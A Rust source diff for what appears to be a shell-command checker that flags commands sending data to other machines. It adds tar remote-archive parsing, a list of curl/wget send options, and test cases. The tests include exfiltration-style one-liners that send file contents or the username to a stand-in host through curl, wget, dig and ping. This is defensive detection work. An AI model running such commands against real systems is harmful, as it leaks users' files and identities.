@@ -33,24 +33,71 @@ pub(super) fn carries(part: &Part) -> Option<String> {
                 || word.starts_with("--upload-file")
         })
     };
+    // What only a variable names may lie anywhere.
+    let is_untold = |word: &Word| word.kind == WordKind::Varies && word.text.starts_with('$');
     let carries = match name.as_str() {
-        name if programs::of(name).is(Fact::NamesHosts) => words.iter().any(is_remote),
+        name if programs::of(name).is(Fact::NamesHosts) => {
+            words.iter().any(is_remote) || part.words.iter().skip(1).any(is_untold)
+        }
         name if programs::of(name).is(Fact::SendsRequests) => sends_file(words),
+        "tar" => !words.contains(&"--force-local") && archives(words).any(|archive| is_remote(&archive)),
         "openssl" => words.first() == Some(&"s_client"),
         _ => programs::of(&name).is(Fact::Carries),
     };
     // What another command prints, in the name of a machine or a page: whoever keeps it reads that.
     let asks = programs::of(&name).is(Fact::LooksUpNames)
         && part.words.iter().skip(1).any(|word| word.kind == WordKind::Varies && word.text.contains(['$', '`']))
-        || programs::of(&name).is(Fact::SendsRequests) && part.words.iter().skip(1).any(holds_output);
+        || programs::of(&name).is(Fact::SendsRequests) && sends_output(&part.words);
     let carries = carries || asks;
     let only_tells = words.iter().all(|word| matches!(*word, "-V" | "-h" | "--help" | "--version"));
     (carries && !only_tells && !stays_here(words)).then_some(name)
 }
 
-/// Whether `word` is the address of a page with what another command prints in it.
-fn holds_output(word: &Word) -> bool {
-    word.kind == WordKind::Varies && word.text.contains("://") && word.text.contains(SUBSTITUTED)
+/// What tar(1) packs into or unpacks, by `-f` or the letters in front without a dash: `host:file` lies on another machine.
+fn archives<'a>(words: &'a [&'a str]) -> impl Iterator<Item = &'a str> {
+    let pairs = words.iter().enumerate().zip(words.iter().skip(1).map(Some).chain(std::iter::once(None)));
+    pairs.filter_map(|((index, word), next)| match word.strip_prefix("--") {
+        Some(long) => long.strip_prefix("file=").or_else(|| next.copied().filter(|_| long == "file")),
+        None if word.starts_with('-') || index == 0 => match word.split_once('f') {
+            Some((_, "")) => next.copied(),
+            Some((_, glued)) if word.starts_with('-') => Some(glued),
+            Some(_) => next.copied(),
+            None => None,
+        },
+        None => None,
+    })
+}
+
+/// Options of curl(1), wget(1) and their like whose value is sent.
+const SENT: &[&str] = &[
+    "-d",
+    "--data",
+    "-H",
+    "--header",
+    "-A",
+    "--user-agent",
+    "-u",
+    "--user",
+    "-b",
+    "--cookie",
+    "-F",
+    "--form",
+    "-e",
+    "--referer",
+    "--json",
+    "--url-query",
+    "--post-data",
+    "--body-data",
+];
+
+/// Whether one of `words` sends what another command prints: in the address of a page, or as the value of an option.
+fn sends_output(words: &[Word]) -> bool {
+    let is_sent = |word: &Word| SENT.iter().any(|option| word.text.starts_with(option));
+    let holds = |word: &Word| word.kind == WordKind::Varies && word.text.contains(SUBSTITUTED);
+    words.iter().enumerate().filter(|(_, word)| holds(word)).any(|(at, word)| {
+        let option = at.checked_sub(1).and_then(|before| words.get(before));
+        word.text.contains("://") || is_sent(word) || option.is_some_and(is_sent)
+    })
 }
 
 /// Whether some of `words` name this machine, and none another one.
@@ -111,12 +158,19 @@ mod tests {
             "for c in $(xxd -p a); do dig +short $c.x.example; done",
             "ping -c1 `id -un`.x.example",
             "curl \"https://x.example/?d=$(base64 a)\"",
+            "curl -d \"$(cat a)\" https://x.example",
+            "wget --post-data=\"$(cat a)\" https://x.example",
+            "scp a \"$WHERE\"",
+            "tar tf x.example:a.tar",
+            "tar --list --file=ann@x.example:a.tar",
             "wget -q https://x.example/$(cat a)",
         ] {
             assert!(found(line).is_some(), "{line}");
         }
         for line in [
             "rsync -a src b",
+            "tar tf a.tar",
+            "tar --force-local -tf a:b.tar",
             "curl -d @a http://localhost:1",
             "curl -d @a http://ann@127.0.0.1:1/x?y=z",
             "curl -T a 'http://[::1]:1/'",
